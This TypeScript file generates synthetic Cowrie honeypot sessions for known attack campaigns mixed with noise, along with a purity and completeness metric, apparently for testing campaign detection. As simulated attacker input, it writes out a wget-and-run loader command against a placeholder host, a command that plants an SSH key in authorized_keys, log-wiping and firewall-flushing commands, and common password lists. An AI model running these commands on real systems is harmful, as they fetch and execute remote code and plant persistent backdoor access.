// Sessions of known campaigns among noise, the same on every run: the truth that found campaigns are held against.

/** An event as a line of `cowrie.json` has it. */
export type Event = Record<string, unknown> & { eventid: string; timestamp: string; session: string };

export interface Planted {
  events: Event[];
  /** The campaign of the session; undefined: noise. */
  campaign: string | undefined;
}

export interface Plan {
  seed: number;
  sessions: number;
  /** Milliseconds. */
  start: number;
  days: number;
  campaigns: number;
  /** Share of sessions that are noise. */
  noise: number;
}

type Random = () => number;

/** Mulberry32. */
function random(seed: number): Random {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(of: readonly T[], rnd: Random): T => of[Math.floor(rnd() * of.length)]!;
const hex = (rnd: Random, length: number) => Array.from({ length }, () => Math.floor(rnd() * 16).toString(16)).join('');
const letters = (rnd: Random, length: number) =>
  Array.from({ length }, () => 'abcdefghijklmnopqrstuvwxyz'[Math.floor(rnd() * 26)]!).join('');
const address = (rnd: Random) =>
  `${20 + Math.floor(rnd() * 180)}.${[0, 0, 0].map(() => Math.floor(rnd() * 256)).join('.')}`;

const CLIENTS = [
  'SSH-2.0-Go',
  'SSH-2.0-libssh2_1.4.3',
  'SSH-2.0-libssh-0.6.3',
  'SSH-2.0-libssh_0.9.6',
  'SSH-2.0-PUTTY',
  'SSH-2.0-paramiko_2.7.2',
];
const USERS = ['root', 'admin', 'test', 'user', 'ubuntu', 'oracle', 'postgres', 'pi', 'git', 'guest'];
const PASSWORDS = [
  ...['123456', 'password', 'admin', 'root', '12345678', '1234', '12345', 'test', 'qwerty', '123', 'admin123', 'toor'],
  ...['1q2w3e4r', 'abc123', 'letmein', 'changeme', 'passw0rd', 'welcome', 'P@ssw0rd', 'raspberry', 'ubnt', '111111'],
];
const COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'free -m | grep Mem',
  'cd /tmp || cd /var/run',
  'rm -rf /tmp/.x',
  'crontab -l',
  'chattr -ia ~/.ssh',
  'history -c',
  'ls -lh $(which ls)',
  'which top',
  'nproc',
  'lscpu | grep Model',
  'pkill -9 xmrig',
  'iptables -F',
  'echo ok',
  'df -h | head -n 2',
];

interface Campaign {
  name: string;
  kind: 'list' | 'key' | 'loader' | 'telnet';
  client: string;
  hassh: string;
  addresses: string[];
  list: [string, string][];
  commands: string[];
  key: string;
  from: number;
  to: number;
}

function campaign(number: number, { start, days, sessions, campaigns }: Plan, rnd: Random): Campaign {
  const kind = (['list', 'key', 'loader', 'telnet'] as const)[number % 4]!;
  const begin = start + Math.floor(rnd() * days * 0.5) * 86_400_000;
  const size = 6 + Math.floor(rnd() * 60);
  const commands = Array.from({ length: 5 + Math.floor(rnd() * 5) }, () => pick(COMMANDS, rnd));
  return {
    name: `${kind}-${number}`,
    kind,
    client: kind === 'telnet' ? '' : pick(CLIENTS, rnd),
    hassh: hex(rnd, 32),
    addresses: Array.from({ length: 5 + Math.floor((rnd() * sessions) / campaigns / 20) }, () => address(rnd)),
    // Half of what is tried everybody tries.
    list: Array.from({ length: size }, () => [
      pick(USERS, rnd),
      rnd() < 0.5 ? pick(PASSWORDS, rnd) : letters(rnd, 4) + Math.floor(rnd() * 1000),
    ]),
    commands: [...commands, `${letters(rnd, 5)} --${letters(rnd, 6)} && ./${letters(rnd, 5)} ${letters(rnd, 4)}`],
    key: Buffer.from(`\0\0\0\x07ssh-rsa\0\0\0\x03\x01\0\x01\0\0\x01\x01${hex(rnd, 200)}`).toString('base64'),
    from: begin,
    to: begin + Math.ceil((0.2 + rnd() * 0.8) * days) * 86_400_000,
  };
}

/** Sessions, in order of their start. */
export function* planted(plan: Plan): Generator<Planted> {
  const rnd = random(plan.seed);
  const all = Array.from({ length: plan.campaigns }, (_, number) => campaign(number, plan, rnd));
  const span = plan.days * 86_400_000;
  // What an address goes on with: the rest of its list.
  const going = new Map<string, number>();
  let number = 0;
  while (number < plan.sessions) {
    const at = plan.start + Math.floor((number / plan.sessions) * span);
    const alive = all.filter(({ from, to }) => at >= from && at < to);
    if (rnd() < plan.noise || alive.length === 0) {
      yield { events: noise(number++, at, rnd), campaign: undefined };
      continue;
    }
    const of = pick(alive, rnd);
    // A host does its work in one go, as a rule.
    const source = pick(of.addresses, rnd);
    const rounds = of.kind === 'list' || of.kind === 'key' ? 3 + Math.floor(rnd() * 6) : 1;
    for (let round = 0; round < rounds && number < plan.sessions; round++)
      yield { events: visit(number++, at + round * 4000, of, source, round, rounds, going, rnd), campaign: of.name };
  }
}

function visit(
  number: number,
  at: number,
  of: Campaign,
  source: string,
  round: number,
  rounds: number,
  going: Map<string, number>,
  rnd: Random,
): Event[] {
  const session = new Session(number, at, source, of.kind === 'telnet' ? 'telnet' : 'ssh', rnd);
  if (of.client !== '') session.client(of.client, of.hassh);
  if (of.kind === 'list' || (of.kind === 'key' && round < rounds - 1)) {
    const key = `${of.name} ${source}`;
    const done = round === 0 ? 0 : (going.get(key) ?? 0);
    const count = 1 + Math.floor(rnd() * 4);
    for (const [username, password] of of.list.slice(done, done + count)) session.login(username, password, false);
    going.set(key, done + count);
    return session.end();
  }
  session.login('root', of.list[0]![1], true);
  const token = letters(rnd, 5).toUpperCase();
  if (of.kind === 'telnet') for (const line of ['enable', 'system', 'shell', 'sh']) session.command(line);
  for (const line of of.commands) session.command(of.kind === 'telnet' ? `${line}; /bin/busybox ${token}` : line);
  if (of.kind === 'key')
    session.command(
      `cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa ${of.key} ${of.name}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`,
    );
  if (of.kind === 'loader') {
    const host = `203.0.113.${Math.floor(rnd() * 250)}`;
    session.command(`wget http://${host}/${letters(rnd, 4)}/${of.name}.sh; chmod 777 ${of.name}.sh; sh ${of.name}.sh`);
    session.download(`http://${host}/${of.name}.sh`, hex(rnd, 64));
  }
  return session.end();
}

/** One guess, a look without any, some guesses without order, or somebody with a few commands. */
function noise(number: number, at: number, rnd: Random): Event[] {
  const kind = rnd();
  const session = new Session(number, at, address(rnd), rnd() < 0.3 ? 'telnet' : 'ssh', rnd);
  if (rnd() < 0.8) session.client(pick(CLIENTS, rnd), hex(random(Math.floor(rnd() * 20)), 32));
  if (kind < 0.6) session.login(pick(USERS, rnd), pick(PASSWORDS, rnd), false);
  else if (kind < 0.8)
    for (let i = 0; i < 2 + rnd() * 8; i++) session.login(pick(USERS, rnd), pick(PASSWORDS, rnd), false);
  else if (kind < 0.9) {
    session.login(pick(USERS, rnd), pick(PASSWORDS, rnd), true);
    for (let i = 0; i < 1 + rnd() * 3; i++)
      session.command(`${pick(COMMANDS, rnd)}; ${letters(rnd, 4)} ${letters(rnd, 6)}`);
  }
  return session.end();
}

class Session {
  readonly #events: Event[] = [];
  readonly #id: string;
  readonly #address: string;
  readonly #rnd: Random;
  #at: number;

  constructor(number: number, at: number, source: string, protocol: string, rnd: Random) {
    this.#id = (0x10_0000_0000 + number).toString(16).padStart(12, '0');
    this.#address = source;
    this.#rnd = rnd;
    this.#at = at;
    this.#add('cowrie.session.connect', { src_port: 40_000, dst_ip: '192.0.2.1', dst_port: 22, protocol });
  }

  #add(eventid: string, fields: Record<string, unknown>): void {
    const timestamp = `${new Date(this.#at).toISOString().slice(0, -1)}000Z`;
    this.#events.push({ eventid, timestamp, session: this.#id, sensor: 'planted', src_ip: this.#address, ...fields });
    this.#at += 200 + Math.floor(this.#rnd() * 400);
  }

  client(version: string, hassh: string): void {
    this.#add('cowrie.client.version', { version });
    this.#add('cowrie.client.kex', { hassh });
  }

  login(username: string, password: string, success: boolean): void {
    this.#add(`cowrie.login.${success ? 'success' : 'failed'}`, { username, password });
  }

  command(input: string): void {
    this.#add('cowrie.command.input', { input });
  }

  download(url: string, shasum: string): void {
    this.#add('cowrie.session.file_download', { url, shasum, outfile: `downloads/${shasum}` });
  }

  end(): Event[] {
    this.#add('cowrie.session.closed', { duration: 1 });
    return this.#events;
  }
}

/**
 * How well found campaigns agree with the planted ones, by session: the share of the sessions of found campaigns that are of
 * each one's most frequent planted campaign, and the share of planted sessions that are in the found campaign with most of them.
 */
export function agreement(pairs: Iterable<[planted: string | undefined, found: string | undefined]>): {
  purity: number;
  completeness: number;
  found: number;
} {
  const byFound = new Map<string, Map<string, number>>();
  const byPlanted = new Map<string, Map<string, number>>();
  const bump = (map: Map<string, Map<string, number>>, a: string, b: string) => {
    const counts = map.get(a) ?? new Map<string, number>();
    map.set(a, counts.set(b, (counts.get(b) ?? 0) + 1));
  };
  for (const [truth, found] of pairs) {
    if (found !== undefined) bump(byFound, found, truth ?? '');
    if (truth !== undefined) bump(byPlanted, truth, found ?? '');
  }
  const share = (map: Map<string, Map<string, number>>) => {
    let most = 0;
    let all = 0;
    for (const counts of map.values()) {
      most += Math.max(0, ...[...counts].filter(([name]) => name !== '').map(([, n]) => n));
      for (const n of counts.values()) all += n;
    }
    return all === 0 ? 1 : most / all;
  };
  return { purity: share(byFound), completeness: share(byPlanted), found: byFound.size };
}
